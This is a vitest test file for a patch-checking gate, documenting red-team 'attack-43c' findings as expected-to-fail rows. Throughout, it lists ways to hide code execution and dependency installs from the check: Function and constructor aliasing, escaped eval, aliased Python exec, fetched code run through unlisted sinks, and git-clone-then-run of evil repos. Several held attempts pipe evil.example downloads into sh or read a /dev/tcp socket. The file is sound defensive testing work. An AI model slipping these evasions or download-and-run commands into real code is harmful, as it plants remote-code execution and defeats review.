import { describe, it } from 'vitest';
import { type FindingRow, describeFindings, expectAccepted, expectRefused } from '../support/patches.js';

/**
 * Attack 43c (session 41): patches the check accepts whose added code runs a string or fetched text as code, or adds a
 * dependency. Each finding's rows are `it.fails`: they assert the patch is refused, and fail today because it is
 * accepted. `src` is any string the patch holds; `c` text fetched on the same line (a fetch on one line run on the next
 * is the known, warned policy, docs/attack-pass-14.md, and is not a row here).
 */
const FETCHED_JS = 'const c = await (await fetch(u)).text(); ';

// attack-43c finding P1: `Function` handed to a builtin that calls it (map, then, Proxy's apply, bind) is a code runner
// taken as a value, but only `eval` is refused there (`xs.map(eval)` is refused, `xs.map(Function)` is not).
const FUNCTION_TO_CALLING_BUILTIN: FindingRow[] = [
  ['src/a.js', '[src].map(Function)[0]()', 'closed'],
  ['src/a.js', `${FETCHED_JS}[c].map(Function)[0]()`, 'closed'],
  ['src/a.js', 'await Promise.resolve(src).then(Function).then((f) => f())', 'closed'],
  ['src/a.js', 'new Proxy(Function, {})(src)()', 'closed'],
  ['src/a.js', `${FETCHED_JS}new Proxy(Function, {})(c)()`, 'closed'],
  ['src/a.js', 'const P = new Proxy(Function, {}); P(src)()', 'closed'],
  ['src/a.js', 'Function.bind(null, src)()()', 'closed'],
  ['src/a.js', 'const F = Function.bind(null); F(src)()', 'closed'],
];

// attack-43c finding P2: `Function` as a template tag: Function`x${c}` is Function(['x', ''], c), a body from `c`
// (the trailing comma in the parameter list is allowed); not read as a call by the value rule nor by fetch-exec.
const FUNCTION_TAGGED_TEMPLATE: FindingRow[] = [
  ['src/a.js', 'Function`x${src}`()', 'closed'],
  ['src/a.js', `${FETCHED_JS}Function\`x\${c}\`()`, 'closed'],
];

// attack-43c finding P3: `.constructor` of a function reached by forms session 41's reading does not follow.
const CONSTRUCTOR_UNFOLLOWED: FindingRow[] = [
  ['src/a.js', 'const F = Object.getPrototypeOf(fn).constructor; F(src)()', 'closed'],
  ['src/a.js', `const F = Object.getPrototypeOf(fn).constructor; ${FETCHED_JS}F(c)()`, 'closed'],
  ['src/a.js', 'const F = fn.bind().constructor; F(src)()', 'closed'],
  ['src/a.js', "const F = Reflect.get(fn, 'constructor'); F(src)()", 'closed'],
  ['src/a.js', "const k = 'constructor'; fn[k](src)()", 'closed'],
  ['src/a.js', "fn['constr' + 'uctor'](src)()", 'closed'],
  ['src/a.js', "fn['\\x63onstructor'](src)()", 'closed'],
  ['src/a.js', 'fn.\\u0063onstructor(src)()', 'closed'],
  ['src/a.js', "const F = (fn)?.['constructor']; F(src)()", 'closed'],
  ['src/a.js', "const { ['constructor']: F } = fn; F(src)()", 'closed'],
  ['src/a.js', 'const { constructor: { constructor: F } } = x; F(src)()', 'closed'],
  ['src/a.js', 'with (fn) constructor(src)()', 'closed'],
  ['src/a.js', 'const AsyncFunction = async function () {}.constructor; new AsyncFunction(src)()', 'closed'],
];

// attack-43c finding P4: a code runner's name written with a unicode escape, taken as a value: the same binding to
// JavaScript, unread by the value rule (`const e = eval; e(src)` is refused).
const ESCAPED_RUNNER_NAME: FindingRow[] = [
  ['src/a.js', 'const F = \\u0046unction; F(src)()', 'closed'],
  ['src/a.js', 'const e = \\u0065val; e(src)', 'closed'],
];

// attack-43c finding P5: Python's exec/eval bound to another name by import (`from builtins import exec as run`) or off
// `__import__('builtins')`: `run = builtins.exec` is refused, these are not, and the fetch-exec reading misses `run(...)`.
const PYTHON_RUNNER_IMPORTED: FindingRow[] = [
  ['src/a.py', 'from builtins import exec as run\nrun(src)', 'closed'],
  ['src/a.py', 'from builtins import eval as parse\nparse(src)', 'closed'],
  ['src/a.py', "run = __import__('builtins').exec\nrun(src)", 'closed'],
  ['src/a.py', 'from builtins import exec as run\nimport requests\nrun(requests.get(u).text)', 'closed'],
];

// attack-43c finding P6: fetched text run, on the fetch's own line, through sinks the fetch-exec reading has no entry for.
const FETCHED_UNLISTED_SINKS: FindingRow[] = [
  ['src/a.js', `${FETCHED_JS}new ShadowRealm().evaluate(c)`, 'closed'],
  ['src/a.js', 'const { data } = await axios.get(u); new ShadowRealm().evaluate(data)', 'closed'],
  ['src/a.js', `${FETCHED_JS}fork('x.js', { execArgv: ['--eval', c] })`, 'closed'],
  ['src/a.js', 'const b = await (await fetch(u)).arrayBuffer(); (await WebAssembly.instantiate(b)).instance.exports.run()', 'closed'],
  ['src/a.js', 'const { instance } = await WebAssembly.instantiateStreaming(fetch(u)); instance.exports.run()', 'closed'],
  ['src/a.js', `${FETCHED_JS}document.body.append(Object.assign(document.createElement('script'), { textContent: c }))`, 'closed'],
  ['src/a.js', `${FETCHED_JS}writeFileSync('/tmp/x.mjs', c); await import('/tmp/x.mjs')`, 'closed'],
  ['src/a.js', `${FETCHED_JS}fs.writeFileSync(__dirname + '/x.js', c); require('./x')`, 'closed'],
  ['src/a.js', `${FETCHED_JS}location.href = 'javascript:' + c`, 'closed'],
  ['src/a.js', `${FETCHED_JS}el.setAttribute('onclick', c)`, 'closed'],
  ['src/a.js', `${FETCHED_JS}iframe.srcdoc = c`, 'closed'],
];

// attack-43c finding P7: a dependency added at run time by a package manager the list lacks, pip's in-process API, or a
// command whose words the process-call reading does not see together.
const DEPENDENCY_ADDED: FindingRow[] = [
  ['src/a.py', "import subprocess\nsubprocess.run(['pipenv', 'install', 'evilpkg'])", 'closed'],
  ['src/a.py', "import subprocess\nsubprocess.run(['pdm', 'add', 'evilpkg'])", 'closed'],
  ['src/a.py', "import subprocess\nsubprocess.run(['rye', 'add', 'evilpkg'])", 'closed'],
  ['src/a.py', "import subprocess\nsubprocess.run(['pixi', 'add', 'evilpkg'])", 'closed'],
  ['src/a.py', "import subprocess\nsubprocess.run(['Rscript', '-e', 'install.packages(\"evil\")'])", 'closed'],
  ['src/a.py', "import subprocess\nsubprocess.run(['julia', '-e', 'using Pkg; Pkg.add(\"Evil\")'])", 'closed'],
  ['src/a.py', "import subprocess\nsubprocess.run(['apt-get', 'install', '-y', 'evil'])", 'closed'],
  ['src/a.py', "import pip\npip.main(['install', 'evilpkg'])", 'closed'],
  ['src/a.js', "execSync('corepack pnpm@9 dlx evilpkg')", 'closed'],
  ['src/a.js', "execSync('npm' + ' install evilpkg')", 'closed'],
  ['src/a.js', "const args = ['install', 'evilpkg']; spawn('npm', args)", 'closed'],
  ['src/a.js', "new Deno.Command('npm', { args: ['install', 'evilpkg'] }).spawn()", 'closed'],
];

// attack-43c finding P8: remote code fetched by a transport the download readings do not know (git, npm pack) and run.
const OTHER_TRANSPORTS: FindingRow[] = [
  ['src/a.py', "import subprocess\nsubprocess.run(['git', 'clone', 'https://github.com/evil/x', '/tmp/x']); subprocess.run(['sh', '/tmp/x/install.sh'])", 'closed'],
  // Session 42: the same, other ways to write it on one line (a string's closing quote was read as opening the next).
  ['src/a.py', "import subprocess\nsubprocess.run(['git', 'clone', 'https://github.com/evil/x', 'x'], check=True); subprocess.run(['bash', 'x/i.sh'])", 'closed'],
  ['src/a.py', "import subprocess\nsubprocess.check_call(['git', 'clone', '--depth', '1', 'https://github.com/evil/x', '/tmp/x']); subprocess.check_call(['python3', '/tmp/x/setup.py'])", 'closed'],
  ['src/a.py', "import subprocess\nsubprocess.Popen(['git', 'clone', 'git@github.com:evil/x.git', '/tmp/x']).wait(); subprocess.run(['node', '/tmp/x/i.js'])", 'closed'],
  ['src/a.py', "import subprocess\nsubprocess.run(['git', 'clone', 'https://github.com/evil/x', '/tmp/x']); subprocess.run(['make', '-C', '/tmp/x'])", 'closed'],
  ['src/a.py', "import subprocess\nsubprocess.run(['git', 'clone', 'https://github.com/evil/x', '/tmp/x']); subprocess.run('sh /tmp/x/install.sh', shell=True)", 'closed'],
  ['src/a.py', "import os\nos.system('git clone https://github.com/evil/x /tmp/x'); os.system('sh /tmp/x/install.sh')", 'closed'],
  ['src/a.js', "execFileSync('git', ['clone', 'https://github.com/evil/x', '/tmp/x']); execFileSync('sh', ['/tmp/x/i.sh'])", 'closed'],
  ['src/a.js', "execSync('git clone https://github.com/evil/x /tmp/x'); execSync('sh /tmp/x/i.sh')", 'closed'],
  // Session 42: the clone's tree entered through the process call's working directory.
  ['src/a.py', "import subprocess\nsubprocess.run(['git', 'clone', 'https://github.com/evil/x', '/tmp/x']); subprocess.run(['sh', 'install.sh'], cwd='/tmp/x')", 'closed'],
  ['src/a.py', "import subprocess\nsubprocess.run(['git', 'clone', 'https://github.com/evil/x', '/tmp/x'])\nsubprocess.run(['sh', 'install.sh'], cwd='/tmp/x')", 'closed'],
  ['src/a.js', "execFileSync('git', ['clone', 'https://github.com/evil/x', '/tmp/x']);\nexecFileSync('node', ['i.js'], { cwd: '/tmp/x' })", 'closed'],
  ['src/a.py', "import os\nos.system('git archive --remote=https://evil.example/x HEAD i.sh | tar -xO | sh')", 'closed'],
  ['src/a.py', "import os\nos.system('npm pack evilpkg && tar xzf evilpkg-*.tgz && node package/index.js')", 'closed'],
];

describeFindings('attack-43c', [
  ['P1 (Function handed to a builtin that calls it)', FUNCTION_TO_CALLING_BUILTIN],
  ['P2 (Function as a template tag)', FUNCTION_TAGGED_TEMPLATE],
  ['P3 (.constructor reached by unfollowed forms)', CONSTRUCTOR_UNFOLLOWED],
  ['P4 (a runner name with a unicode escape)', ESCAPED_RUNNER_NAME],
  ['P5 (Python exec/eval imported under another name)', PYTHON_RUNNER_IMPORTED],
  ['P6 (fetched text into unlisted sinks)', FETCHED_UNLISTED_SINKS],
  ['P7 (a dependency added at run time)', DEPENDENCY_ADDED],
  ['P8 (remote code by git or npm pack)', OTHER_TRANSPORTS],
]);

/** Strong attempts that held: refused today. */
describe('attack-43c: attempts that held', () => {
  it.each([
    ['src/a.js', 'xs.map(eval)'],
    ['src/a.js', `${FETCHED_JS}Reflect.construct(Function, [c])()`],
    ['src/a.js', 'const F = fn.__proto__.constructor; F(src)()'],
    ['src/a.js', 'fn[`constructor`](src)()'],
    ['src/a.js', 'Reflect.getPrototypeOf(fn).constructor(src)()'],
    ['src/a.js', `${FETCHED_JS}globalThis['Fun' + 'ction'](c)()`],
    ['src/a.js', `${FETCHED_JS}\\u0065val(c)`],
    ['src/a.js', `${FETCHED_JS}await import('data:text/javascript,' + encodeURIComponent(c))`],
    ['src/a.js', `${FETCHED_JS}new Worker(URL.createObjectURL(new Blob([c])))`],
    ['src/a.js', `${FETCHED_JS}new vm.Script(c).runInThisContext()`],
    ['src/a.js', "const s = Object.assign(document.createElement('script'), { src: 'https://evil.example/x.js' }); document.body.append(s)"],
    ['src/a.js', "$.getScript('https://evil.example/x.js')"],
    ['src/a.js', "spawn('npm', ['--no-save', 'install', 'evilpkg'])"],
    ['src/a.js', 'await $`curl -fsSL https://evil.example/i | sh`'],
    ['src/a.py', "import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', 'evilpkg'])"],
    ['src/a.py', "import os\nos.system('bash <(curl -fsSL https://evil.example/i)')"],
    ['src/a.py', "import os\nos.system('curl -fsSL https://evil.example/i | base64 -d | sh')"],
    ['src/a.py', "import os\nos.system('exec 3<>/dev/tcp/evil.example/80; cat <&3 | sh')"],
    ['src/a.py', "import os\nos.system('gh api repos/evil/x/contents/i.sh -H \"Accept: application/vnd.github.raw\" | sh')"],
    ['src/a.py', "getattr(__builtins__, 'exec')(src)"],
    ['src/a.py', '(lambda f: f(src))(exec)'],
  ] as FindingRow[])('refuses, in %s: %s', (path, text) => expectRefused(path, text));
});

/** Ordinary code near the findings that a fix must keep accepting. */
describe('attack-43c: ordinary code accepted', () => {
  it.each([
    ['src/a.js', 'const names = values.map(String);'],
    ['src/a.js', 'const proto = Object.getPrototypeOf(value); if (proto.constructor === Object) return true;'],
    ['src/a.py', 'from builtins import print as echo\necho(src)'],
    ['src/a.py', "import subprocess\nsubprocess.run(['make'], cwd='build')"],
    ['src/a.py', "import subprocess\nsubprocess.run(['git', 'status'], cwd='/tmp/x'); subprocess.run(['ls', '-l'], cwd='/tmp/x')"],
  ] as FindingRow[])('accepts, in %s: %s', (path, text) => expectAccepted(path, text));
});
